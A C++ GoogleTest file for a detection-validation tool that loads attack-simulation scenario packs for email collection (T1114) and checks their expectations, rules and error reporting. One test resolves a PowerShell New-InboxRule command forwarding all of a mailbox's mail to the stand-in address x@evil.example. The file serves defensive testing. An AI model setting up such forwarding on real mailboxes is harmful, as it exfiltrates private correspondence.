#include "scenarios/pack.h"

#include <gtest/gtest.h>

#include <filesystem>
#include <fstream>

namespace attest::scenarios {
namespace {
namespace fs = std::filesystem;

std::string dump(const Problems& ps) {
    std::string out;
    for (const auto& p : ps.items()) out += p.format() + "\n";
    return out;
}

bool has(const Problems& ps, const std::string& code, const std::string& file_suffix,
         std::uint64_t line, const std::string& fragment) {
    for (const auto& p : ps.items()) {
        bool file_ok = p.file.size() >= file_suffix.size() &&
                       p.file.compare(p.file.size() - file_suffix.size(), file_suffix.size(),
                                      file_suffix) == 0;
        if (p.code == code && file_ok && p.line == line &&
            p.format().find(fragment) != std::string::npos)
            return true;
    }
    return false;
}

TEST(PackTest, ShippedT1114PackHasNoProblems) {
    Problems problems;
    auto pack = load_pack(ATTEST_SOURCE_DIR "/scenarios/t1114", problems);
    ASSERT_TRUE(pack) << pack.error().message;
    check_pack_queries(*pack, problems);
    EXPECT_EQ(problems.items().size(), 0u) << dump(problems);
    EXPECT_EQ(pack->tests().size(), 6u);
    EXPECT_EQ(pack->checks.size(), 6u);
    // The four Windows scenarios of the detection card and two Linux ones.
    std::size_t windows = 0, linux_tests = 0;
    for (const auto* t : pack->tests()) {
        windows += t->platforms == std::vector<std::string>{"windows"};
        linux_tests += t->platforms == std::vector<std::string>{"linux"};
    }
    EXPECT_EQ(windows, 4u);
    EXPECT_EQ(linux_tests, 2u);
    auto s1 = pack->checks_for(*pack->find_test("23df3cbb-43ee-4bd5-a013-21ce438ed77f"));
    ASSERT_EQ(s1.detections.size(), 1u);
    EXPECT_EQ(s1.detections[0].profile, Profile::Endpoint);
    EXPECT_TRUE(s1.detections[0].expect_fires);
    // The seed rule, verbatim.
    EXPECT_EQ(s1.detections[0].query.rfind("sequence by host.name with maxspan=5m\n", 0), 0u);
    EXPECT_NE(s1.detections[0].query.find("] by process.entity_id"), std::string::npos);
    auto s3 = pack->checks_for(
        *pack->find_test("Remote Exchange mailbox enumeration via an EWS SOAP FindItem request"));
    EXPECT_TRUE(expectations::is_secret_argument(s3, "password"));
    EXPECT_FALSE(expectations::is_secret_argument(s3, "username"));
    EXPECT_EQ(pack->lab_files, std::vector<std::string>{"lab/auditd.rules"});
}

TEST(PackTest, ShippedPackArgumentsResolve) {
    Problems problems;
    auto pack = load_pack(ATTEST_SOURCE_DIR "/scenarios/t1114", problems);
    ASSERT_TRUE(pack);
    const auto* t = pack->find_test("8b986d4a-4577-4d17-a4e8-404b81b0d4d0");
    ASSERT_NE(t, nullptr);
    auto r = resolve_test(*t, {{"forward_to", "x@evil.example"}}, pack->atomics_folder);
    ASSERT_TRUE(r) << r.error().message;
    EXPECT_NE(
        r->command.find("New-InboxRule -Name \"attest-forward-all\" -Mailbox "
                        "\"attest.user@contoso.onmicrosoft.com\" -ForwardTo \"x@evil.example\""),
        std::string::npos)
        << r->command;
    // Cleanup runs in a new process: everything it needs comes from arguments.
    EXPECT_NE(
        r->cleanup_command.find("Remove-InboxRule -Mailbox \"attest.user@contoso.onmicrosoft.com\" "
                                "-Identity \"attest-forward-all\""),
        std::string::npos);
    EXPECT_EQ(r->cleanup_command.find("#{"), std::string::npos);
}

TEST(PackTest, StockAtomicsFolderIsAPackWithoutExpectations) {
    std::string dir = ATTEST_SOURCE_DIR "/../shared/data/atomics";
    if (!fs::exists(dir)) GTEST_SKIP() << "../shared/data absent";
    Problems problems;
    auto pack = load_pack(dir, problems);
    ASSERT_TRUE(pack);
    EXPECT_EQ(problems.error_count(), 0u) << dump(problems);
    EXPECT_EQ(pack->tests().size(), 89u);
    EXPECT_TRUE(pack->checks.empty());
}

TEST(PackTest, BrokenPackListsEveryProblemWithPositions) {
    Problems problems;
    auto pack = load_pack(ATTEST_SOURCE_DIR "/tests/data/packs/broken", problems);
    ASSERT_TRUE(pack);
    check_pack_queries(*pack, problems);
    const std::string atomic = "T1114.001/T1114.001.yaml";
    const std::string exp = "broken/expectations.yaml";
    EXPECT_TRUE(has(problems, "E003", atomic, 1, "T1114-001")) << dump(problems);
    EXPECT_TRUE(has(problems, "E016", atomic, 11, "directory")) << dump(problems);
    EXPECT_TRUE(has(problems, "E005", atomic, 15, "#{mail_spool}")) << dump(problems);
    EXPECT_TRUE(has(problems, "E007", atomic, 14, "sudo")) << dump(problems);
    EXPECT_TRUE(has(problems, "E011", atomic, 17, "0a0a0a0a-1111-2222-3333-444444444444"))
        << dump(problems);
    EXPECT_TRUE(has(problems, "W008", atomic, 22, "comand")) << dump(problems);
    EXPECT_TRUE(has(problems, "E013", atomic, 21, "needs a 'command'")) << dump(problems);
    EXPECT_TRUE(has(problems, "E114", exp, 6, "sysmn")) << dump(problems);
    EXPECT_TRUE(has(problems, "E113", exp, 8, "duplicate expectation id")) << dump(problems);
    EXPECT_TRUE(has(problems, "E111", exp, 10, "#{nope}")) << dump(problems);
    EXPECT_TRUE(has(problems, "E104", exp, 11, "missing 'query'")) << dump(problems);
    EXPECT_TRUE(has(problems, "E105", exp, 13, "5 minutes")) << dump(problems);
    EXPECT_TRUE(has(problems, "E115", exp, 17, "min_count")) << dump(problems);
    // A query's problems point into the query inside expectations.yaml (line and column of the
    // YAML file), for a plain scalar and for a literal block.
    EXPECT_TRUE(has(problems, "E130", exp, 16, "expectation 'e4'")) << dump(problems);
    EXPECT_TRUE(has(problems, "E130", exp, 22, "expectation 'e5'")) << dump(problems);
    for (const auto& p : problems.items()) {
        if (p.code != "E130" || p.context.find("expectation") == std::string::npos) continue;
        EXPECT_EQ(p.column, p.line == 16 ? 46u : 39u) << p.format();
    }
    EXPECT_TRUE(has(problems, "E117", exp, 24, "missing.eql")) << dump(problems);
    EXPECT_TRUE(has(problems, "E106", exp, 27, "defend")) << dump(problems);
    EXPECT_TRUE(has(problems, "E116", exp, 28, "maybe")) << dump(problems);
    EXPECT_TRUE(has(problems, "E130", exp, 26, "bad.eql")) << dump(problems);
    EXPECT_TRUE(has(problems, "E103", exp, 29, "ffffffff-ffff-ffff-ffff-ffffffffffff"))
        << dump(problems);
    EXPECT_EQ(problems.error_count(), 19u) << dump(problems);
}

namespace {

// A pack with two tests (uname: ...555, hostname: ...666) and the given expectations.yaml
// (none when empty).
fs::path two_test_pack(const std::string& name, const std::string& expectations) {
    fs::path dir =
        fs::temp_directory_path() / ("attest_pack_" + name + "_" + std::to_string(::getpid()));
    fs::remove_all(dir);
    fs::create_directories(dir / "atomics/T1082");
    std::ofstream(dir / "atomics/T1082/T1082.yaml") << R"(attack_technique: T1082
display_name: System Information Discovery
atomic_tests:
- name: uname
  auto_generated_guid: 11111111-2222-3333-4444-555555555555
  description: uname
  supported_platforms: [linux]
  executor:
    name: sh
    command: uname -a
- name: hostname
  auto_generated_guid: 11111111-2222-3333-4444-666666666666
  description: hostname
  supported_platforms: [linux]
  executor:
    name: sh
    command: hostname
)";
    if (!expectations.empty()) std::ofstream(dir / "expectations.yaml") << expectations;
    return dir;
}

}  // namespace

// A scenario's tactics: the pack's `tactics:` (any case, spaces allowed), else the technique's
// from the shipped table; a name that is not an ATT&CK tactic is E125.
TEST(PackTest, TacticsFromThePackElseFromTheTechnique) {
    fs::path dir = two_test_pack("tactics", R"(version: 1
scenarios:
  11111111-2222-3333-4444-555555555555:
    tactics: [Defense Evasion, discovery, nonsense]
)");
    Problems problems;
    auto pack = load_pack(dir.string(), problems);
    ASSERT_TRUE(pack);
    EXPECT_TRUE(has(problems, "E125", "expectations.yaml", 4, "nonsense")) << dump(problems);
    auto given = pack->checks_for(*pack->find_test("11111111-2222-3333-4444-555555555555"));
    EXPECT_EQ(given.tactics, (std::vector<std::string>{"defense-evasion", "discovery"}));
    auto from_table = pack->checks_for(*pack->find_test("hostname"));
    EXPECT_EQ(from_table.tactics, std::vector<std::string>{"discovery"});

    // --scenario forms: GUID prefix (ambiguous when shared), T1234-N, case-insensitive name.
    EXPECT_EQ((*pack->select_test("T1082-2"))->name, "hostname");
    EXPECT_EQ((*pack->select_test("UNAME"))->name, "uname");
    EXPECT_EQ((*pack->select_test("11111111-2222-3333-4444-6666"))->name, "hostname");
    auto ambiguous = pack->select_test("11111111");
    ASSERT_FALSE(ambiguous);
    EXPECT_NE(ambiguous.error().message.find("matches 2 tests"), std::string::npos)
        << ambiguous.error().message;
    EXPECT_FALSE(pack->select_test("T1082-3"));
    fs::remove_all(dir);
}

// `lineage: true` bounds an expectation to the test's process tree; anything but a boolean
// is E115 at its position.
TEST(PackTest, LineageIsABooleanOfAnExpectation) {
    fs::path dir =
        fs::temp_directory_path() / ("attest_pack_lineage_" + std::to_string(::getpid()));
    fs::create_directories(dir / "atomics/T1082");
    std::ofstream(dir / "atomics/T1082/T1082.yaml") << R"(attack_technique: T1082
display_name: System Information Discovery
atomic_tests:
- name: uname
  auto_generated_guid: 11111111-2222-3333-4444-555555555555
  description: uname
  supported_platforms: [linux]
  executor:
    name: sh
    command: uname -a
)";
    std::ofstream(dir / "expectations.yaml") << R"(version: 1
scenarios:
  11111111-2222-3333-4444-555555555555:
    expectations:
      - {id: tree, source: auditd, query: 'process where process.name == "uname"', lineage: true}
      - {id: any, source: auditd, query: 'process where process.name == "uname"', lineage: false}
      - {id: default, source: auditd, query: 'process where process.name == "uname"'}
      - {id: bad, source: auditd, query: 'process where true', lineage: sometimes}
)";
    Problems problems;
    auto pack = load_pack(dir.string(), problems);
    ASSERT_TRUE(pack);
    EXPECT_TRUE(
        has(problems, "E115", "expectations.yaml", 8, "lineage is true or false, not 'sometimes'"))
        << dump(problems);
    auto checks = pack->checks_for(*pack->find_test("uname"));
    ASSERT_EQ(checks.expectations.size(), 4u);
    EXPECT_TRUE(checks.expectations[0].lineage);
    EXPECT_FALSE(checks.expectations[1].lineage);
    EXPECT_FALSE(checks.expectations[2].lineage);
    fs::remove_all(dir);
}

// `success:` is a command (the test's executor) or {command, executor}; its #{arguments} must
// be the test's; anything else is E127 (or E111 for an unknown argument) at its position.
TEST(PackTest, SuccessCheckForms) {
    struct Case {
        const char* yaml;  // the scenario's `success:` value
        const char* command;
        const char* executor;
        const char* code;  // expected problem, "" for none
    };
    const Case cases[] = {
        {"'test -s #{out}'", "test -s #{out}", "", ""},
        {"{command: 'Test-Path x', executor: powershell}", "Test-Path x", "powershell", ""},
        {"{command: 'true', executor: manual}", "", "", "E127"},
        {"{command: 'true', executor: zsh}", "", "", "E127"},
        {"{executor: sh}", "", "", "E127"},
        {"[a, b]", "", "", "E127"},
        {"'test -s #{nope}'", "test -s #{nope}", "", "E111"},
    };
    fs::path dir =
        fs::temp_directory_path() / ("attest_pack_success_" + std::to_string(::getpid()));
    fs::create_directories(dir / "atomics/T1082");
    std::ofstream(dir / "atomics/T1082/T1082.yaml") << R"(attack_technique: T1082
display_name: System Information Discovery
atomic_tests:
- name: uname
  auto_generated_guid: 11111111-2222-3333-4444-555555555555
  description: uname
  supported_platforms: [linux]
  input_arguments:
    out: {description: output, type: path, default: /tmp/x}
  executor:
    name: sh
    command: 'uname -a > #{out}'
)";
    for (const Case& c : cases) {
        std::ofstream(dir / "expectations.yaml")
            << "version: 1\nscenarios:\n  11111111-2222-3333-4444-555555555555:\n    success: "
            << c.yaml << "\n";
        Problems problems;
        auto pack = load_pack(dir.string(), problems);
        ASSERT_TRUE(pack);
        if (*c.code)
            EXPECT_TRUE(has(problems, c.code, "expectations.yaml", 4, "success")) << c.yaml << "\n"
                                                                                  << dump(problems);
        else
            EXPECT_EQ(problems.error_count(), 0u) << c.yaml << "\n" << dump(problems);
        auto checks = pack->checks_for(*pack->find_test("uname"));
        EXPECT_EQ(checks.success_command, c.command) << c.yaml;
        EXPECT_EQ(checks.success_executor, c.executor) << c.yaml;
    }
    fs::remove_all(dir);
}

// Baseline expectations: always for a test the expectations file does not mention, beside the
// hand-written ones when the file asks (top level or scenario); a bad value is E128.
TEST(PackTest, BaselineForUncoveredTestsOrWhenAsked) {
    const std::string uname = "11111111-2222-3333-4444-555555555555";
    struct Case {
        const char* expectations;
        bool uname_baseline, hostname_baseline;
        const char* problem;  // code expected at line 2 or 5, "" none
    };
    const Case cases[] = {
        {"", true, true, ""},
        {"version: 1\nscenarios:\n  11111111-2222-3333-4444-555555555555:\n    tactics: "
         "[discovery]\n",
         false, true, ""},
        {"version: 1\nscenarios:\n  11111111-2222-3333-4444-555555555555:\n    tactics: "
         "[discovery]\n"
         "    baseline: true\n",
         true, true, ""},
        {"version: 1\nbaseline: true\nscenarios:\n  11111111-2222-3333-4444-555555555555:\n    "
         "tactics: "
         "[discovery]\n",
         true, true, ""},
        {"version: 1\nbaseline: maybe\nscenarios:\n  11111111-2222-3333-4444-555555555555:\n    "
         "tactics: "
         "[discovery]\n",
         false, true, "E128"},
    };
    for (const auto& c : cases) {
        SCOPED_TRACE(c.expectations);
        fs::path dir = two_test_pack("baseline", c.expectations);
        Problems problems;
        auto pack = load_pack(dir.string(), problems);
        ASSERT_TRUE(pack);
        EXPECT_EQ(pack->checks_for(*pack->find_test(uname)).baseline, c.uname_baseline);
        EXPECT_EQ(pack->checks_for(*pack->find_test("hostname")).baseline, c.hostname_baseline);
        if (*c.problem)
            EXPECT_TRUE(has(problems, c.problem, "expectations.yaml", 2, "maybe"))
                << dump(problems);
        else
            EXPECT_EQ(problems.error_count(), 0u) << dump(problems);
        fs::remove_all(dir);
    }
}

TEST(PackTest, RuleLoadErrorsDoNotBlockARunButMarkTheDetection) {
    Problems problems;
    auto pack = load_pack(ATTEST_SOURCE_DIR "/tests/data/packs/broken", problems);
    ASSERT_TRUE(pack);
    // The missing rule (E117) is the only rule-health error: check and run go on, and that
    // detection carries its load error (its verdict becomes `error`).
    EXPECT_EQ(problems.blocking_error_count(), problems.error_count() - 1) << dump(problems);
    std::size_t with_error = 0;
    for (const auto& [guid, checks] : pack->checks)
        for (const auto& d : checks.detections)
            if (!d.load_error.empty()) {
                ++with_error;
                EXPECT_NE(d.load_error.find("missing.eql"), std::string::npos) << d.load_error;
                EXPECT_FALSE(d.loaded);
            }
    EXPECT_EQ(with_error, 1u);
}

TEST(PackTest, SiemDetectionsAndTheirDeadline) {
    Problems problems;
    auto pack = load_pack(ATTEST_SOURCE_DIR "/tests/data/packs/siem", problems);
    ASSERT_TRUE(pack);
    EXPECT_EQ(problems.error_count(), 0u) << dump(problems);
    const auto& d = pack->checks.at("5e000000-0000-4000-8000-000000000105").detections;
    ASSERT_EQ(d.size(), 5u);
    EXPECT_EQ(d[0].siem, "elastic");
    EXPECT_FALSE(d[0].siem_deadline_ns.has_value());
    EXPECT_EQ(d[1].rule_id, "siem-late");
    EXPECT_EQ(d[1].siem_deadline_ns, 3'000'000'000LL);

    fs::path dir = fs::temp_directory_path() / ("attest_pack_siem_" + std::to_string(::getpid()));
    fs::create_directories(dir / "rules");
    fs::copy(ATTEST_SOURCE_DIR "/tests/data/packs/siem/atomics", dir / "atomics",
             fs::copy_options::recursive);
    std::ofstream(dir / "rules/r.eql") << "process where true\n";
    std::ofstream(dir / "expectations.yaml") << R"(version: 1
scenarios:
  5e000000-0000-4000-8000-000000000105:
    detections:
      - {rule: rules/r.eql, profile: sysmon, siem: splunk}
      - {rule: rules/r.eql, profile: sysmon, siem: elastic, deadline: whenever}
      - {rule: rules/r.eql, profile: sysmon, deadline: 5m}
)";
    Problems bad;
    ASSERT_TRUE(load_pack(dir.string(), bad));
    EXPECT_TRUE(has(bad, "E116", "expectations.yaml", 5, "siem is 'elastic', not 'splunk'"))
        << dump(bad);
    EXPECT_TRUE(has(bad, "E116", "expectations.yaml", 6, "deadline is a duration")) << dump(bad);
    EXPECT_TRUE(has(bad, "E116", "expectations.yaml", 7, "deadline needs siem: elastic"))
        << dump(bad);
    fs::remove_all(dir);
}

TEST(PackTest, MissingPathIsAnError) {
    Problems problems;
    EXPECT_FALSE(load_pack("/nonexistent/pack", problems));
}

}  // namespace
}  // namespace attest::scenarios
